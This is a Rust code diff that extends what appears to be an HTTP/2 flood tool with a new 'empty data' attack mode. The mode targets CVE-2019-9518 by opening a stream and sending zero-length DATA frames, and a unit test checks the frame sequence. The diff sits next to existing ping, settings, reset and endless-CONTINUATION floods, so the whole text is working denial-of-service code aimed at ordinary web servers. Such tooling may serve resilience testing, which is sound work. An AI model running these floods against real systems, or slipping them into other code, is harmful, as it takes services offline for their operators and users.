@@ -28,6 +28,8 @@ pub enum FloodKind {
     Ping,
     /// SETTINGS, each of which has an answer.
     Settings,
+    /// A body of nothing that never ends (CVE-2019-9518).
+    EmptyData,
     /// A header block that never ends (CVE-2024-27316 and others).
     Continuation,
 }
@@ -40,6 +42,7 @@ impl FloodKind {
             Self::MadeYouReset => "made you reset",
             Self::Ping => "ping",
             Self::Settings => "settings",
+            Self::EmptyData => "empty data",
             Self::Continuation => "continuation",
         }
     }
@@ -60,10 +63,12 @@ impl FloodKind {
             }
             Self::Ping => http2::write(out, kind::PING, 0, 0, &[0; 8]),
             Self::Settings => http2::write(out, kind::SETTINGS, 0, 0, &[]),
-            Self::Continuation if is_first => {
-                let block = http2::get(authority, "/", true);
-                http2::write(out, kind::HEADERS, http2::END_STREAM, 1, &block);
+            Self::EmptyData | Self::Continuation if is_first => {
+                let is_data = self == Self::EmptyData;
+                let flags = if is_data { http2::END_HEADERS } else { http2::END_STREAM };
+                http2::write(out, kind::HEADERS, flags, 1, &http2::get(authority, "/", true));
             }
+            Self::EmptyData => http2::write(out, kind::DATA, 0, 1, &[]),
             // A line of its own: literal, without indexing.
             Self::Continuation => http2::write(out, kind::CONTINUATION, 0, 1, b"\0\x04x-aa\x04aaaa"),
         }
@@ -228,6 +233,7 @@ mod tests {
         assert_eq!(kinds(FloodKind::MadeYouReset)[1], (kind::WINDOW_UPDATE, 1));
         assert_eq!(kinds(FloodKind::Ping), [(kind::PING, 0); 2]);
         assert_eq!(kinds(FloodKind::Settings), [(kind::SETTINGS, 0); 2]);
+        assert_eq!(kinds(FloodKind::EmptyData), [(head, 1), (kind::DATA, 1)]);
         assert_eq!(kinds(FloodKind::Continuation), [(head, 1), (kind::CONTINUATION, 1)]);
     }
 
